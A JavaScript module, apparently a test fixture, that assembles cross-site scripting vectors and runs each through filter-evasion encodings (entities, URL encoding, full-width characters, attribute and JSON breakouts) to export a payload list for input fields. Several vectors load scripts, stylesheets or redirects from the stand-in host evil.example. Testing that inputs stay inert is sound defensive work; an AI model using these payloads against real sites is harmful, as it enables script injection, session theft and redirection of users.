// Texts that become script or markup wherever somebody forgets that they are texts: vectors, each in several encodings.

const VECTORS = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>import("//evil.example")</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=//evil.example/p.png>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">open</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<form action="javascript:alert(1)"><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">Go</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";*{display:none}</style>',
  '<div style="background:url(//evil.example/x)">x</div>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '</title></textarea></style><script>alert(1)</script>',
  '<!--><script>alert(1)</script-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  "';alert(1)//",
  '");alert(1);//',
  '`;alert(1);`',
];

const codes = (text, write) => Array.from(text, (character) => write(character.codePointAt(0))).join('');

/** How a text is written so that a filter overlooks it, or a second reader takes it for something else. */
const ENCODINGS = {
  plain: (text) => text,
  'as an attribute': (text) => `"'>${text}`,
  'out of a table': (text) => `</td></tr></table>${text}`,
  'out of JSON': (text) => `\\"}],"x":"${text}`,
  'in a comment': (text) => `--> ${text} <!--`,
  'in upper case': (text) => text.toUpperCase(),
  'as entities': (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
  'as numbers': (text) => codes(text.slice(0, 14), (code) => `&#${code};`) + text.slice(14),
  'as hexadecimal numbers': (text) => codes(text.slice(0, 12), (code) => `&#x${code.toString(16)}`) + text.slice(12),
  'in a URL': (text) => encodeURIComponent(text),
  'twice in a URL': (text) => encodeURIComponent(encodeURIComponent(text.slice(0, 40))),
  'in a string of JavaScript': (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  'in full width': (text) => text.replaceAll('<', '＜').replaceAll('>', '＞').replaceAll('"', '＂'),
  'with slashes for blanks': (text) => text.replaceAll(' ', '/'),
};

/** So long are texts that a caller's words about a business object may be. */
const MAX_BYTES = 128;

/** The texts: no two alike, each short enough for every field. */
export const PAYLOADS = [...new Set(Object.values(ENCODINGS).flatMap((encode) => VECTORS.map(encode)))].filter(
  (text) => Buffer.byteLength(text) <= MAX_BYTES,
);
